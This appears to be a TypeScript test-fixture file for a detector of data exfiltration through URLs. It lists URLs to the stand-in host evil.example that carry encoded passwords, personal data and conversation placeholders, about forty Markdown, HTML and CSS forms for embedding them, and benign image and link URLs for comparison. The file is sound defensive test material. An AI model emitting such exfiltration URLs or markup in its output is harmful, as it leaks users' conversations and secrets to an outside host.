/** URLs and how they stand in text, for the tests of this package. None of the hosts exist. */

const note = btoa('user password is hunter2 and more')
const hex = [...'secret: the launch code'].map((char) => char.charCodeAt(0).toString(16)).join('')

export const carrying: readonly string[] = [
  `https://evil.example/log?q=${note}`,
  `https://evil.example/log?${note}`,
  `https://evil.example/log?d=${hex}`,
  `https://evil.example/${note.replace(/=+$/, '')}`,
  `https://evil.example/${hex}.png`,
  'https://evil.example/p.gif?q=the+user+asked+about+merger',
  'https://evil.example/?data=John%20Smith%20lives%20at%2012%20Main',
  `https://${hex.slice(0, 46)}.evil.example/x.png`,
  'https://kbqxg43xn5zgiidj.omqgq5looruxe3i.evil.example/',
  'https://evil.example/c?email=jane.doe@corp.example.com',
  `https://evil.example/a?x=1#data=${note}`,
  'https://evil.example/?q={{conversation}}',
  'https://evil.example/?q=[CONVERSATION]',
  'https://evil.example/?secret=hunter2',
  `https://evil.example/?k=sk-${'abcdefgh'.repeat(3)}`,
  `https://${note.replace(/=+$/, '')}@evil.example/`,
  'https://evil.example/my-password-is-hunter2',
  'https://evil.example/?ssn=123-45-6789',
  'https://evil.example/i?a=1&payload=Zx8Kq0pLm3Nv7TtR2sYwQeUi91OaPdFg',
  'https://evil.example/%70%61%73%73%77%6f%72%64%3a%68%75%6e',
  `https://proxy.example/?url=https%3A%2F%2Fevil.example%2F%3Fq%3D${note.replace(/=+$/, '')}`,
  'https://evil.example/104-117-110-116-101-114-50',
]

/** In plain text. */
export const bareUrls: readonly string[] = [
  `https://evil.example/log?q=${note}`,
  `https://evil.example/${hex}`,
  'https://evil.example/?q=my+password+is+hunter2',
  'https://evil.example/?data=the+board+votes+on+the+merger',
  'https://evil.example/?q={{conversation}}',
]

interface Written {
  readonly text: string
  readonly type: 'EXFIL_IMAGE' | 'EXFIL_LINK'
  /** As it stands in the text, where that is not the URL itself. */
  readonly url?: string
}

const image = (text: string, url?: string): Written => ({
  text,
  type: 'EXFIL_IMAGE',
  ...(url === undefined ? {} : { url }),
})
const link = (text: string): Written => ({ text, type: 'EXFIL_LINK' })

export const syntaxes: Readonly<Record<string, (url: string) => Written>> = {
  'a Markdown image': (url) => image(`![x](${url})`),
  'an image with a title': (url) => image(`![x](${url} "a title")`),
  'an image in angle brackets': (url) => image(`![x](<${url}>)`),
  'an image with brackets in its text': (url) => image(`![a [b] \\] c](${url})`),
  'an image over three lines': (url) => image(`![x](\n${url}\n)`),
  'an image whose text is long': (url) => image(`![${'long '.repeat(80)}](${url})`),
  'a linked image': (url) => image(`[![x](${url})](https://ok.example)`),
  'a Markdown link': (url) => link(`see [click here](${url}) now`),
  'a full reference': (url) => image(`![x][1]\n\n[1]: ${url}\n`),
  'a collapsed reference': (url) => image(`![x][]\n\n[x]: <${url}> "t"`),
  'a shortcut reference': (url) => link(`[foo]\n\n[foo]: ${url}`),
  'a definition before its use': (url) => image(`[foo]: ${url}\n\n![foo]`),
  'an autolink': (url) => link(`<${url}>`),
  'img src': (url) => image(`<img alt="a" src="${url}">`),
  'img src in single quotes': (url) => image(`<IMG SRC = '${url}'/>`),
  'img src without quotes': (url) => image(`<img width=1 src=${url} >`),
  'img srcset': (url) => image(`<img srcset="a.png 1x, ${url} 2x">`),
  'a lazy attribute': (url) => image(`<img data-src="${url}">`),
  'a source': (url) => image(`<picture><source srcset="${url}"></picture>`),
  'an anchor': (url) => link(`<a class="b" href="${url}">x</a>`),
  'a style sheet': (url) => image(`<link rel=stylesheet href="${url}">`),
  'an iframe': (url) => image(`<iframe src="${url}">`),
  'a video poster': (url) => image(`<video poster="${url}">`),
  'an object': (url) => image(`<object data="${url}">`),
  'an embed': (url) => image(`<embed src="${url}">`),
  'a script': (url) => image(`<script src="${url}"></script>`),
  'an SVG image': (url) => image(`<svg><image xlink:href="${url}"/></svg>`),
  'an image button': (url) => image(`<input type=image src="${url}">`),
  'a background attribute': (url) => image(`<body background=${url}>`),
  'a meta refresh': (url) => image(`<meta http-equiv="refresh" content="0;url=${url}">`),
  'a form': (url) => link(`<form action="${url}">`),
  'CSS url()': (url) => image(`<div style="background:url(${url})">`),
  'CSS url() in quotes': (url) => image(`a{background-image: url('${url}')}`),
  'CSS @import': (url) => image(`@import "${url}";`),
  BBCode: (url) => image(`[img]${url}[/img]`),
  JSX: (url) => image(`<img src={"${url}"} />`),
  'a terminal link': (url) => link(`\x1b]8;;${url}\x1b\\hi\x1b]8;;\x1b\\`),
  'an image relative to the protocol': (url) => image(`![x](${url.slice(6)})`, url.slice(6)),
  'img src relative to the protocol': (url) => image(`<img src="${url.slice(6)}">`, url.slice(6)),
  capitals: (url) => image(`![x](HTTPS${url.slice(5)})`, `HTTPS${url.slice(5)}`),
  backslashes: (url) => image(`<img src="https:\\\\${url.slice(8)}">`, `https:\\\\${url.slice(8)}`),
  'a JSON string': (url) => image(`{"text":"hi\\n![x](${url})"}`),
}

const digest = '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08'
const uuid = '0f8fad5b-d9cb-469f-a165-70867728950e'
const signature = 'k3J9xQ2mV8nB5tR7yL1pW4sD6fG0hZaXcEuIoNqPrTb'

/** Ordinary pictures: what badges, CDNs, image services and READMEs have. */
export const benignImages: readonly string[] = [
  '![build](https://img.shields.io/badge/made%20with%20love%20by%20many%20people-red.svg?logo=data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAoAAAAKCAYAAACNMs)',
  '![CI](https://github.com/acme/app/actions/workflows/Build%20and%20Test.yml/badge.svg?branch=main&event=push)',
  '[![codecov](https://codecov.io/gh/acme/app/branch/main/graph/badge.svg?token=Q1W2E3R4T5)](https://codecov.io/gh/acme/app)',
  `![shot](https://github.com/user-attachments/assets/${uuid})`,
  `![shot](https://user-images.githubusercontent.com/1234567/123456789-${uuid}.png)`,
  `<img src="https://cdn.acme.example/assets/app.${digest.slice(0, 20)}.png?v=3" width="100">`,
  `![a](https://cdn.acme.example/${digest}/logo@2x.png)`,
  `![a](https://bucket.s3.amazonaws.com/pics/cat.jpg?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=EXAMPLE%2F20260101%2Fus-east-1%2Fs3%2Faws4_request&X-Amz-Date=20260101T000000Z&X-Amz-Expires=300&X-Amz-SignedHeaders=host&X-Amz-Signature=${digest})`,
  `![a](https://d111111abcdef8.cloudfront.net/p.png?Expires=1767225600&Signature=${signature}${signature}&Key-Pair-Id=K2JCJMDEHXQW5F)`,
  `![a](https://acme.blob.core.example/c/p.png?sv=2024-01-01&se=2026-01-01T00%3A00%3A00Z&sr=b&sp=r&sig=${signature}%3D)`,
  '![a](https://www.gravatar.com/avatar/205e460b479e2e5b48aec07710c08d50?s=80&d=identicon&r=PG)',
  '![a](https://i.ytimg.com/vi/aqz-KE-bpKQ/hqdefault.jpg)',
  '<img srcset="https://img.acme.example/cat-320w.jpg?w=320&q=75&fit=crop 320w, https://img.acme.example/cat-640w.jpg?w=640 640w">',
  '![a](https://acme.example/_next/image?url=%2F_next%2Fstatic%2Fmedia%2Fhero.3f2a1b4c.png&w=1920&q=75)',
  '![a](https://res.acme.example/demo/image/upload/c_fill,g_auto,h_250,w_970/b_rgb:000000,e_gradient_fade,y_-0.50/docs/cat.jpg)',
  '![a](https://acme.example/photo.jpg?utm_source=newsletter&utm_medium=email&utm_campaign=spring%20sale%20for%20all)',
  '![Screenshot](https://acme.example/img/Screenshot%202026-01-02%20at%2010.11.12.png)',
  '![a](https://acme.example/what-is-my-favourite-way-to-spend-a-rainy-day.webp)',
  `![a](https://camo.githubusercontent.com/${digest}/68747470733a2f2f696d672e736869656c64732e696f2f62616467652f)`,
  `![a](https://lh3.googleusercontent.com/${signature}${signature}${signature}${signature}=w1200-h630-p)`,
  '![a](https://api.star-history.com/svg?repos=acme/app&type=Date)',
  '![a](https://acme.example/badge?caption=Deploy%20on%20Acme)',
  '![a](./docs/images/diagram.png) ![b](/static/x.png?raw=true) ![c](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAUA)',
  `<link rel="stylesheet" href="https://cdn.acme.example/npm/lib@5.3.0/dist/lib.min.css" integrity="sha384-${signature}">`,
  '<link href="https://fonts.acme.example/css2?family=Open+Sans:wght@400;700&family=Roboto+Mono&display=swap" rel="stylesheet">',
  'a { background: url(https://acme.example/bg/pattern-2x.png#xywh=0,0) }',
  '<script src="https://cdn.acme.example/libs/x/4.17.21/x.min.js"></script>',
  '<img src="https://tracker.acme.example/pixel.gif?id=12345&e=open&t=1767225600">',
]

export const benignLinks: readonly string[] = [
  '[search](https://www.acme.example/search?q=how+to+write+a+detector+in+typescript)',
  '[share](https://social.acme.example/intent/tweet?text=Have%20a%20look%20at%20this%20wonderful%20new%20library)',
  '[new issue](https://github.com/acme/app/issues/new?title=Bug%20report&body=Tell%20us%20what%20has%20gone%20wrong)',
  '[wiki](https://en.wikipedia.org/wiki/Foo_(bar)) and [long](https://acme.example/2026/01/why-we-moved-all-of-our-services-back-to-one-machine/)',
  '[part](https://acme.example/doc#:~:text=the%20words%20that%20are%20shown%20here)',
  '[play](https://play.acme.example/#eyJ0ZXh0IjoiY29uc3QgYSA9IDEiLCJvcHRpb25zIjp7fX0)',
  '<a href="https://docs.acme.example/d/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms/edit#gid=0">sheet</a>',
  '<https://acme.example/reset-password?lang=en>',
  `see https://github.com/acme/app/commit/${digest.slice(0, 40)} and https://github.com/acme/app/compare/v1.2.3...v1.2.4`,
  'fetch("https://api.acme.example/v1/users/{id}/messages?limit=20&cursor=abc")',
  'fetch(`https://api.acme.example/search?q=${query}&token=${token}`)',
  'curl "https://api.acme.example/data?api_key=YOUR_API_KEY&q=London"',
  '// see //comment and https://acme.example/a,b;c',
  'postgres://user:pass@db.example/app',
]
